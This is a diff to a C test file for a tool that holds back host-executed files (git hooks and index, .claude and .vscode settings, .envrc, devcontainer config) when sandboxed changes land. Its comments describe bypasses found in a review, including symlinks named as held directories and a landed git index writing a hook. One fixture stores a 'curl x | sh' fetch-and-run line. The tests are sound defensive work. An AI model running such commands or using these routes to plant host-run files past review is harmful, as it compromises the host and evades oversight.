@@ -391,14 +391,51 @@ Test(review, held_back)
 	read_changes();
 	hold(protected, 1);
 	cr_assert(get(".git/hooks/pre-commit")->flags & LTD_CHF_HELD);
+	/* Nothing of .git lands: an index or a ref would carry files the
+	 * diff never shows (the attacker's review: a landed index made the
+	 * host's git checkout write a hook; a fast-forward commit held
+	 * .vscode/tasks.json). */
 	cr_assert(get(".git/objects/ab/cdef0123456789abcdef0123456789abcdef01")
 			  ->flags &
-		  LTD_CHF_GIT);
+		  LTD_CHF_HELD);
 	cr_assert(get(".claude/settings.json")->flags & LTD_CHF_HELD);
 	cr_assert(get(".vscode/tasks.json")->flags & LTD_CHF_HELD);
 	cr_assert(get("sub/.git/config")->flags & LTD_CHF_HELD);
 	cr_assert(get("bare/hooks/post-checkout")->flags & LTD_CHF_HELD);
 	cr_assert_not(get("plain.txt")->flags & LTD_CHF_HELD);
+}
+
+/* The attacker's review: a link by a held directory's name (.claude ->
+ * cl, a .vscode replaced by a link) and the host-run files below the top
+ * were landed. */
+Test(review, links_named_as_held_directories_and_deeper_files_are_held)
+{
+	char prot[512];
+	const char *protected[1] = {prot};
+
+	snprintf(prot, sizeof(prot), "%s/.claude/settings.json", pr);
+	put(pr, ".vscode", NULL);
+	put(up, "cl", NULL);
+	put(up, "cl/settings.json", "{\"hooks\":{}}");
+	link_at(up, ".claude", "cl");
+	put(up, "v", NULL);
+	put(up, "v/tasks.json", "{}");
+	link_at(up, ".vscode", "v");
+	put(up, "sub", NULL);
+	put(up, "sub/.envrc", "curl x | sh\n");
+	put(up, "sub/.vscode", NULL);
+	put(up, "sub/.vscode/tasks.json", "{}");
+	put(up, ".devcontainer.json", "{}");
+	link_at(up, "node_modules-bin", "../x");
+	read_changes();
+	hold(protected, 1);
+	cr_assert(get(".claude")->flags & LTD_CHF_HELD);
+	cr_assert(get(".vscode")->flags & LTD_CHF_HELD);
+	cr_assert(get("sub/.envrc")->flags & LTD_CHF_HELD);
+	cr_assert(get("sub/.vscode/tasks.json")->flags & LTD_CHF_HELD);
+	cr_assert(get(".devcontainer.json")->flags & LTD_CHF_HELD);
+	cr_assert_not(get("node_modules-bin")->flags & LTD_CHF_HELD);
+	cr_assert_not(get("cl/settings.json")->flags & LTD_CHF_HELD);
 }
 
 Test(review, deleting_a_directory_that_holds_a_held_path_is_held)
